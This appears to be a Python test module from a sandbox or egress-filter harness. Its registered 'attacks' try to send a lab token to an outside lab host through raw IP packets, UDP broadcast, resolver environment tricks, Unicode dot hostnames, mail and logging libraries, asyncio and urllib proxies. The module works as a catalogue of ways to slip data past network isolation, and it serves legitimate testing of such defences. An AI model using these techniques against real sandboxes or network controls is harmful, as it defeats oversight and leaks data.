"""Packets that contain their own destination, and hosts set elsewhere. The effect: `lab.token` arrives."""

import asyncio
import os
import socket
import struct

from lab import attack

CATEGORY = 'network'


def packet(lab):
    """Returns an IPv4 packet with a datagram for the external host."""
    payload = lab.token.encode()
    datagram = struct.pack('!HHHH', 4242, lab.ports.udp, 8 + len(payload), 0) + payload
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, socket.inet_aton(lab.host), socket.inet_aton(lab.host))
    total = sum(struct.unpack('!10H', head))
    total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return head[:10] + struct.pack('!H', total) + head[12:] + datagram


@attack('a packet with a header of its own')
def _(lab):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(packet(lab), ('127.0.0.1', 0))


@attack('a raw datagram')
def _(lab):
    payload = lab.token.encode()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    raw.sendto(struct.pack('!HHHH', 4242, lab.ports.udp, 8 + len(payload), 0) + payload, (lab.host, 0))


@attack('UDP that may be broadcast')
def _(lab):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    udp.sendto(lab.token.encode(), (lab.host, lab.ports.udp))


@attack('a connection that is dissolved and made again')
def _(lab):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect(('127.0.0.1', lab.witnessPort))
    udp.sendto(lab.token.encode(), (lab.host, lab.ports.udp))


@attack('a list of aliases for the resolver')
def _(lab):
    aliases = os.path.join(lab.out, 'aliases')
    with open(aliases, 'w') as file:
        file.write(f'allowed {lab.token}.{lab.otherName}\n')
    os.environ['HOSTALIASES'] = aliases
    socket.gethostbyname('allowed')


@attack('a search list for the resolver')
def _(lab):
    os.environ['LOCALDOMAIN'] = f'{lab.token}.{lab.otherName}'
    socket.gethostbyname('allowed')


@attack('a name with a dot of another script')
def _(lab):
    socket.getaddrinfo(f'{lab.token}\u3002{lab.otherName}', 80)


@attack('smtplib')
def _(lab):
    import smtplib

    client = smtplib.SMTP(timeout=1)
    client.sock = client._get_socket(lab.host, lab.ports.tcp, 1)
    client.send(lab.token)


@attack('poplib')
def _(lab):
    import poplib

    class Client(poplib.POP3):
        def _getresp(self):
            return b''

    Client(lab.host, lab.ports.tcp, timeout=1)._putcmd(lab.token)


@attack('ssl.get_server_certificate')
def _(lab):
    import ssl

    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(socket.create_connection((lab.host, lab.ports.tls)), server_hostname='x') as secured:
        secured.sendall(lab.token.encode())


@attack('a datagram of logging')
def _(lab):
    import logging.handlers

    logging.handlers.DatagramHandler(lab.host, lab.ports.udp).send(lab.token.encode())


@attack('a handler of logging by HTTP')
def _(lab):
    import logging.handlers

    handler = logging.handlers.HTTPHandler(f'{lab.host}:{lab.ports.tcp}', f'/{lab.token}')
    handler.emit(logging.makeLogRecord({'msg': lab.token}))


@attack('asyncio, a socket of its own')
def _(lab):
    async def send():
        tcp = socket.socket()
        tcp.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(tcp, (lab.host, lab.ports.tcp))
        await loop.sock_sendall(tcp, lab.token.encode())

    asyncio.run(asyncio.wait_for(send(), 2))


@attack('asyncio, a socket in the file system')
def _(lab):
    async def send():
        _, writer = await asyncio.open_unix_connection(lab.unixSocket)
        writer.write(lab.token.encode())
        await writer.drain()

    asyncio.run(asyncio.wait_for(send(), 2))


@attack('a manager of multiprocessing')
def _(lab):
    from multiprocessing.connection import SocketClient

    SocketClient((lab.host, lab.ports.tcp)).send_bytes(lab.token.encode())


@attack('an opener of urllib with a proxy')
def _(lab):
    import urllib.request

    proxy = urllib.request.ProxyHandler({'http': f'http://{lab.host}:{lab.ports.tcp}'})
    urllib.request.build_opener(proxy).open(f'http://{lab.allowedName}/{lab.token}', timeout=1)
